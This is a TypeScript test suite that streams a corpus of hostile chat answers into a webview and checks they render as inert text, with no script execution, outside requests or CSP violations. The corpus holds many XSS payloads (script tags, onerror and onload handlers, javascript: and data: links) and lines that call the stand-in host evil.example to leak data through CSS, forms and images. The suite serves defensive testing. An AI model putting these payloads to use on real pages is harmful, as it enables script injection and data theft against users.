// Hostile model output: each answer in the corpus is streamed into the chat webview (and also sent
// as the user's own words) and must come out inert: no script runs (a canary stays unset, no dialog
// opens, no page error), nothing is requested beyond the app's own bundle, stylesheet and font, the
// page's CSP never has to step in (no violation reported), and the text is still there to read.
import * as assert from 'node:assert/strict';
import {
  CONVERSATION, ChatHarness, assistantTurn, deliver, deltas, stateMessage, userTurn, type ServedPage,
} from './support/chatPage';

interface Case {
  name: string;
  answer: string;
  /** Text the reader must still see in the answer. */
  visible: string[];
}

const PWN = 'window.__pwned=1';
const BIG_LINE = 'All work and no play makes <b onmouseover=alert(1)>Jack</b> a dull boy. ';

const CORPUS: Case[] = [
  { name: 'script tag', answer: `Hi <script>${PWN}</script> there`, visible: ['<script>', 'there'] },
  { name: 'script tag on its own block', answer: `<script>\n${PWN}\n</script>`, visible: ['<script>'] },
  { name: 'img onerror', answer: `<img src=x onerror="${PWN}">`, visible: ['<img src=x onerror='] },
  { name: 'svg onload', answer: `<svg onload="${PWN}"><circle r=5 /></svg>`, visible: ['<svg onload='] },
  { name: 'svg with script inside', answer: `<svg><script>${PWN}</script></svg>`, visible: ['<svg><script>'] },
  { name: 'markdown javascript: link', answer: '[click me](javascript:window.__pwned=1)', visible: ['click me'] },
  { name: 'markdown javascript: link, encoded', answer: '[click me](jav&#x61;script:alert(1)) and [x](JaVaScRiPt:alert(1))', visible: ['click me'] },
  { name: 'raw javascript: anchor', answer: `<a href="javascript:${PWN}">click</a>`, visible: ['<a href="javascript:'] },
  { name: 'markdown data: link', answer: '[open](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)', visible: ['open'] },
  { name: 'raw data: iframe', answer: '<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>', visible: ['<iframe'] },
  { name: 'iframe to a remote page', answer: '<iframe src="http://evil.example/frame"></iframe>', visible: ['<iframe src="http://evil.example/frame">'] },
  { name: 'style tag exfiltration', answer: '<style>body{background:url(http://evil.example/leak?c=1)}</style>', visible: ['<style>body{background:url('] },
  { name: 'inline style exfiltration', answer: '<div style="background:url(http://evil.example/x.png)">styled</div>', visible: ['styled'] },
  { name: 'css import', answer: '<style>@import url("http://evil.example/x.css");</style>', visible: ['@import'] },
  { name: 'remote anchor', answer: '<a href="http://evil.example">trust me</a>', visible: ['trust me'] },
  { name: 'markdown remote link', answer: 'See [the docs](http://evil.example/docs) for more.', visible: ['the docs', '(http://evil.example/docs)'] },
  { name: 'autolink', answer: 'Visit <http://evil.example/auto>.', visible: ['http://evil.example/auto'] },
  { name: 'form', answer: '<form action="http://evil.example/post"><input name=q value=secret><button>Go</button></form>', visible: ['<form action='] },
  { name: 'meta refresh', answer: '<meta http-equiv="refresh" content="0;url=http://evil.example/">', visible: ['<meta http-equiv="refresh"'] },
  { name: 'base href', answer: '<base href="http://evil.example/">\n\n[rel](docs/page.md)', visible: ['<base href=', 'rel'] },
  { name: 'markdown image', answer: '![tracking pixel](http://evil.example/x.png)', visible: ['tracking pixel', 'http://evil.example/x.png'] },
  { name: 'markdown data: image', answer: '![dot](data:image/png;base64,iVBORw0KGgo=)', visible: ['dot'] },
  { name: 'reference-style image and link', answer: '![logo][l] and [home][h]\n\n[l]: http://evil.example/logo.png\n[h]: javascript:alert(1)', visible: ['logo'] },
  { name: 'object and embed', answer: '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/y">', visible: ['<object data='] },
  { name: 'math with href', answer: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', visible: ['<math>'] },
  { name: 'event handler in a code fence', answer: '```html\n<img src=x onerror="window.__pwned=1">\n```', visible: ['<img src=x onerror='] },
  { name: 'fence language injection', answer: '```"><img src=x onerror=alert(1)> src/"onmouseover=alert(1).ts\nx\n```', visible: ['x'] },
  { name: 'unterminated fence', answer: 'Start\n\n```ts\nconst a = "<script>alert(1)</script>";\n', visible: ['Start', 'const a'] },
  { name: 'unterminated emphasis and link', answer: '**bold _nested [link](http://evil.example', visible: ['bold'] },
  { name: 'html entities', answer: '&lt;script&gt;alert(1)&lt;/script&gt; &amp;copy; &#x3C;img src=x onerror=alert(1)&#x3E;', visible: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'] },
  { name: 'template and noscript', answer: '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">', visible: ['<template>'] },
  { name: 'table with alignment', answer: '| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [j](javascript:alert(1)) |', visible: ['<img src=x onerror=alert(1)>'] },
  { name: 'nul and odd unicode', answer: 'nul\u0000 rtl\u202Eexe.txt zero\u200Bwidth <scr\u0000ipt>alert(1)</script>', visible: ['rtl'] },
  { name: 'a 200 KB answer', answer: `# Big\n\n${BIG_LINE.repeat(Math.ceil(200_000 / BIG_LINE.length))}\n\nThe end.`, visible: ['The end.', 'Jack'] },
];

/** What a hostile answer managed to do to the page, beyond rendering as text. */
async function damage(served: ServedPage): Promise<string[]> {
  const { page, origin } = served;
  const inPage = await page.evaluate(() => {
    const turns = document.querySelector('.turns')!;
    const found: string[] = [];
    if (window.__pwned !== undefined) found.push('the canary was set');
    for (const v of window.__csp) found.push(`CSP violation: ${v}`);
    const banned = turns.querySelectorAll('script, style, iframe, frame, object, embed, form, input, img, svg, math, meta, base, link, a, template, video, audio');
    for (const e of Array.from(banned)) found.push(`element <${e.tagName.toLowerCase()}> in the turns`);
    for (const e of Array.from(turns.querySelectorAll('*'))) {
      for (const a of Array.from(e.attributes)) {
        if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'href' || a.name === 'src') found.push(`attribute ${a.name} on <${e.tagName.toLowerCase()}>`);
      }
    }
    return found;
  });
  const allowed = new Set(['/', '/media/chat.js', '/media/chat.css', '/media/codicon.css', '/media/codicon.ttf']);
  const requests = served.requests.filter((url) => !(url.startsWith(`${origin}/`) && allowed.has(new URL(url).pathname)));
  return [
    ...inPage,
    ...requests.map((u) => `request to ${u}`),
    ...served.foreignRequests.map((u) => `foreign request to ${u}`),
    ...served.dialogs.map((d) => `dialog ${d}`),
    ...served.pageErrors.map((e) => `page error ${e}`),
    ...served.console.filter((m) => /Content.Security.Policy|Refused to/i.test(m.text)).map((m) => `console: ${m.text}`),
  ];
}

describe('chat webview: hostile model output', function () {
  this.timeout(60_000);
  const harness = new ChatHarness();
  before(() => harness.start());
  after(() => harness.stop());
  afterEach(() => harness.closePages());

  it('has a corpus of at least 20 hostile answers', () => {
    assert.ok(CORPUS.length >= 20, `${CORPUS.length} cases`);
  });

  it('notices a payload that does run (the checks can fail)', async () => {
    const served = await harness.open();
    // Script the page itself runs (as a bug in the app would) must show up in every recorder.
    await served.page.evaluate(() => {
      window.__pwned = 1;
      const img = document.createElement('img');
      img.src = 'http://evil.example/leak.png';
      document.querySelector('.turns')!.append(img);
    });
    await served.page.waitForFunction(() => window.__csp.length > 0);
    const found = await damage(served);
    assert.ok(found.includes('the canary was set'), found.join('\n'));
    assert.ok(found.some((f) => f.startsWith('CSP violation: img-src')), found.join('\n'));
    assert.ok(found.includes('element <img> in the turns'), found.join('\n'));
  });

  for (const c of CORPUS) {
    it(`renders inert: ${c.name}`, async () => {
      const served = await harness.open();
      const { page } = served;
      await deliver(page, stateMessage(), {
        type: 'turnStarted', conversationId: CONVERSATION, turns: [userTurn('u1', c.answer), assistantTurn('a1', '')],
      });
      await deliver(page, ...deltas('a1', c.answer, Math.max(5, Math.ceil(c.answer.length / 40))));
      await deliver(page, { type: 'turnEnded', conversationId: CONVERSATION, turn: assistantTurn('a1', c.answer, 'done') });
      // Give any payload that slipped through a chance to fire: a full task and animation frame later.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));

      assert.deepEqual(await damage(served), []);
      const shown = await page.evaluate(() => ({
        answer: (document.querySelector('[data-turn-id="a1"] .turn-body') as HTMLElement).innerText,
        question: (document.querySelector('[data-turn-id="u1"] .user-text') as HTMLElement).textContent,
      }));
      for (const v of c.visible) assert.ok(shown.answer.includes(v), `answer shows ${JSON.stringify(v)}`);
      assert.equal(shown.question, c.answer, 'the user turn shows its text verbatim');
    });
  }
});
